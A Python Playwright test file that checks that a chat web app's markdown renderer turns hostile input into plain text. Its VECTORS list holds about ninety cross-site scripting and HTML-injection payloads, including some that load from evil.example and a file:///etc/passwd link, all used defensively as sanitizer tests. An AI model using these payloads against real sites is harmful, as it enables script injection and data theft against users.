"""Hostile text in the page: nothing of it becomes script, style, a form or a request."""

from __future__ import annotations

import json

from playwright.sync_api import Page, expect
from support.page_browser import PageServer, Watch
from support.page_steps import ask, import_file

ALERT = "window.hit=1"
VECTORS = (
    f"<script>{ALERT}</script>",
    f"<ScRiPt >{ALERT}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={ALERT}>",
    f'<img src="x" onerror="{ALERT}">',
    f"<IMG SRC=x ONERROR={ALERT}//",
    f"<img/src=x/onerror={ALERT}>",
    "<img src=https://evil.example/pixel.png>",
    f'<svg onload="{ALERT}"></svg>',
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{ALERT}"><text y=20>x</text></a></svg>',
    f"<svg><style><img src=x onerror={ALERT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>",
    f"<math><mi//xlink:href='data:x,<script>{ALERT}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    f"<body onload={ALERT}>",
    f"<iframe src='javascript:{ALERT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data='javascript:{ALERT}'></object>",
    f"<embed src='javascript:{ALERT}'>",
    f"<form action='javascript:{ALERT}'><button>go</button></form>",
    f"<form><button formaction='javascript:{ALERT}'>go</button></form>",
    f"<input autofocus onfocus={ALERT}>",
    f"<select autofocus onfocus={ALERT}>",
    f"<textarea autofocus onfocus={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}>",
    f"<details open ontoggle={ALERT}>x</details>",
    f"<marquee onstart={ALERT}>x</marquee>",
    f"<div style='background:url(javascript:{ALERT})'>x</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f"<b onmouseover={ALERT}>x</b>",
    f"<b style='position:fixed;inset:0' onclick={ALERT}>x</b>",
    f"<template><script>{ALERT}</script></template>",
    f"<a href='javascript:{ALERT}'>x</a>",
    f"[x](javascript:{ALERT})",
    f"[x](JaVaScRiPt:{ALERT})",
    f"[x](&#106;avascript:{ALERT})",
    f"[x](&#x6A;&#x61;vascript:{ALERT})",
    f"[x](java\tscript:{ALERT})",
    f"[x](<java\nscript:{ALERT}>)",
    f"[x](\x01javascript:{ALERT})",
    f"[x](vbscript:{ALERT})",
    f"[x](data:text/html,<script>{ALERT}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/v1/models)",
    f"[x]: javascript:{ALERT}\n\n[x]",
    f'[x](https://a.example "onmouseover={ALERT}")',
    f'[x](https://a.example/"onmouseover={ALERT}//)',
    f"<javascript:{ALERT}>",
    f"<https://a.example/'onclick={ALERT}>",
    "![x](https://evil.example/pixel.png)",
    f"![x](javascript:{ALERT})",
    f'![x"onerror="{ALERT}](https://evil.example/a.png)',
    f"![x](https://evil.example/a.png'onerror='{ALERT})",
    f'```"><img src=x onerror={ALERT}>\ncode\n```',
    f"```html\n<script>{ALERT}</script>\n```",
    f"    <script>{ALERT}</script>",
    f"`<img src=x onerror={ALERT}>`",
    f"|<img src=x onerror={ALERT}>|b|\n|-|-|\n|<script>{ALERT}</script>|<svg onload={ALERT}>|",
    f"# <img src=x onerror={ALERT}>",
    f"- <svg/onload={ALERT}>\n- [ ] <script>{ALERT}</script>",
    f"> <iframe src=javascript:{ALERT}>",
    f"<b><i><u><script>{ALERT}</script></u></i></b>",
    f"<b>\n\n<img src=x onerror={ALERT}>\n\n</b>",
    f"<!-- --><script>{ALERT}</script><!-- -->",
    f"<!--><img src=x onerror={ALERT}>-->",
    f"<![CDATA[<script>{ALERT}</script>]]>",
    f"<?xml-stylesheet href='javascript:{ALERT}'?>",
    f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{ALERT}&#60;/script&#62;",
    f"</div></div></article><script>{ALERT}</script>",
    "</script><script>window.hit=1</script>",
    "<a id=page name=page>x</a><form id=fllm><input name=api></form>",
    f"<p class=skip id=composer onclick={ALERT}>x</p>",
    "$${}`${window.hit=1}`",
    "__proto__ [constructor](https://a.example/__proto__)",
    "[a]( https://user:pw@evil.example/ )",
    "\u202ereversed\u202c <b>\u2028</b>",
)
ELEMENTS = frozenset(
    (
        *(
            "P",
            "BR",
            "HR",
            "H2",
            "H3",
            "H4",
            "H5",
            "H6",
            "UL",
            "OL",
            "LI",
            "BLOCKQUOTE",
            "PRE",
            "CODE",
            "EM",
            "STRONG",
        ),
        *(
            "DEL",
            "B",
            "I",
            "U",
            "S",
            "SUB",
            "SUP",
            "KBD",
            "MARK",
            "A",
            "TABLE",
            "THEAD",
            "TBODY",
            "TR",
            "TH",
            "TD",
        ),
        *("DIV", "SPAN", "BUTTON"),
    )
)
ATTRIBUTES = frozenset(
    ("href", "rel", "target", "align", "start", "tabindex", "class", "type", "role", "aria-label")
)
CLASSES = frozenset(("", "scroll", "code", "code-bar", "quiet", "visually-hidden", "markdown"))
FOUND = """() => [...document.querySelectorAll(".markdown, .markdown *")].map((each) => [
    each.nodeName, each.className, [...each.attributes].map((one) => one.name), each.getAttribute("href"),
    each.getAttribute("rel")])"""


def assert_harmless(page: Page) -> None:
    """Assert that no script ran, and that markdown made only the elements and attributes that it may."""
    assert page.evaluate("window.hit") is None
    for element, name, attributes, href, rel in page.evaluate(FOUND):
        assert element in ELEMENTS, element
        assert name in CLASSES, name
        assert ATTRIBUTES.issuperset(attributes), attributes
        if href is not None:
            assert href.startswith(("http://", "https://", "mailto:")), href
            assert rel == "noopener noreferrer"
        else:
            assert element != "A"


def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 60


def test_hostile_markdown_in_answers_is_text(page: Page, server: PageServer) -> None:
    """All of them in one answer, streamed in small pieces, then each in a message of its own."""
    joined = "\n\n".join(VECTORS)
    server.script(*(joined[at : at + 7] for at in range(0, len(joined), 7)))
    ask(page, "all")
    expect(page.locator(".facts-line")).to_contain_text("tokens")
    assert_harmless(page)
    messages = [
        message
        for vector in VECTORS
        for message in ({"role": "user", "content": vector}, {"role": "assistant", "content": vector})
    ]
    import_file(page, {"messages": messages})
    expect(page.locator(".message")).to_have_count(2 * len(VECTORS))
    # Markdown is made when a message comes near the view.
    page.evaluate(
        """async () => {
            const scroller = document.getElementById("messages");
            for (let at = 0; at < scroller.scrollHeight; at += 600) {
                scroller.scrollTop = at;
                await new Promise((done) => requestAnimationFrame(done));
            }
        }"""
    )
    expect(page.locator(".assistant .markdown")).to_have_count(len(VECTORS))
    assert_harmless(page)
    # What was written can be read.
    expect(page.locator(".assistant .bubble").first).to_have_text(VECTORS[0])


def test_hostile_text_in_all_other_places_is_text(page: Page) -> None:
    """Titles, reasoning, tool names and arguments, errors and models of an imported conversation."""
    nodes = {}
    parent = ""
    for at, vector in enumerate(VECTORS[:40]):
        common = {
            "text": "",
            "created": at,
            "model": vector,
            "reasoning": vector,
            "name": vector,
            "finish": vector,
        }
        calls = [{"id": vector, "name": vector, "arguments": vector}]
        images = [vector, f"data:image/svg+xml,{vector}", f'data:image/png;base64,x" onerror="{ALERT}']
        nodes[f"a{at}"] = {
            **common,
            "role": "assistant",
            "parent": parent,
            "calls": calls,
            "error": {"message": vector},
        }
        nodes[f"t{at}"] = {
            **common,
            "role": "tool",
            "parent": f"a{at}",
            "call": vector,
            "images": images,
            "text": vector,
        }
        parent = f"t{at}"
    hostile = {
        "id": "<b>",
        "title": VECTORS[3],
        "nodes": nodes,
        "chosen": {"": "a0"},
        "options": {"system": VECTORS[0]},
    }
    import_file(page, {"conversations": [hostile]})
    expect(page.locator(".message")).to_have_count(80)
    expect(page.get_by_role("heading", level=1)).to_have_text(VECTORS[3])
    expect(page.locator(".entry-title").first).to_have_text(VECTORS[3])
    assert page.locator(".message img").count() == 0
    assert_harmless(page)
    assert page.locator(":is(.message, .sidebar) :is(script, style, iframe, object, embed, a)").count() == 0


def test_hostile_errors_and_models_of_the_server_are_text(
    watched: tuple[Page, Watch], server: PageServer
) -> None:
    page, watch = watched
    watch.expected.append("status of 500")
    bad = f"<img src=x onerror={ALERT}>"
    page.evaluate("(name) => { fllm.server.value = {models: [{name}, {name: name + 2, state: name}]} }", bad)
    expect(page.locator(".model-choice option").first).to_have_text(bad)
    error = {"error": {"message": bad, "type": bad, "code": bad}}
    page.route("**/page/chat", lambda route: route.fulfill(status=500, json=error))
    ask(page, "Hi")
    expect(page.locator(".failure p")).to_have_text(bad)
    assert_harmless(page)


def test_files_without_conversations_change_nothing(page: Page) -> None:
    contents = (
        "[]",
        "null",
        "no JSON",
        '{"conversations": [{"nodes": {"a": {"role": "user", "parent": "a"}}}]}',
        '{"conversations": [{"nodes": {"a": null, "b": 1, "": {"role": "user", "parent": ""}}}]}',
        '{"conversations": [{"nodes": {"a": {"role": "system", "parent": ""}}}]}',
    )
    for at, content in enumerate(contents):
        name = f"{at}.json"
        file = {"name": name, "mimeType": "application/json", "buffer": content.encode()}
        page.locator("input[type=file][accept*=json]").set_input_files(file)
        note = page.locator(".sidebar [role=status]")
        expect(note).to_contain_text(f"{name} is not a file of conversations")
    expect(page.locator(".entry")).to_have_count(0)


def test_markdown_is_what_it_says(page: Page, server: PageServer) -> None:
    server.script(
        "# Title\n\nH<sub>2</sub>O &amp; `a<b`\n\n",
        "1. one\n\n2. two\n   - deep\n\n",
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n",
        "```python\nprint(1)\n```\n\n> quote\n\n- [x] done\n\n![cat](https://a.example/cat.png) <https://b.example>",
    )
    ask(page, "Show")
    expect(page.locator(".facts-line")).to_contain_text("tokens")
    shown = page.locator(".assistant .markdown")
    expect(shown.locator("h2")).to_have_text("Title")
    expect(shown.locator("sub")).to_have_text("2")
    expect(shown.locator("p").first).to_have_text("H2O & a<b")
    expect(shown.locator("ol > li")).to_have_count(2)
    assert shown.locator("ol").evaluate("(list) => list.start") == 1
    expect(shown.locator("td").nth(1)).to_have_attribute("align", "right")
    expect(shown.locator(".code-bar span").first).to_have_text("python")
    expect(shown.locator(".code code")).to_have_text("print(1)")
    expect(shown.locator("blockquote")).to_have_text("quote")
    expect(shown.locator("ul li").last).to_have_text("☑ done")
    expect(shown.get_by_role("link", name="cat")).to_have_attribute("href", "https://a.example/cat.png")
    expect(shown.get_by_role("link", name="b.example")).to_have_attribute("rel", "noopener noreferrer")


def test_markdown_that_is_deep_is_shown(page: Page) -> None:
    for text in (">" * 20_000, "[" * 20_000, "<b>" * 5_000, "- " * 500 + "x", "**a" * 5_000):
        nodes = {"a": {"role": "assistant", "parent": "", "text": text}}
        page.evaluate(
            "(content) => { fllm.runs.current.value = fllm.conversation.fromFile(content)[0] }",
            json.dumps({"nodes": nodes, "chosen": {"": "a"}}),
        )
        expect(page.locator(".assistant .bubble")).to_contain_text(text[-1])
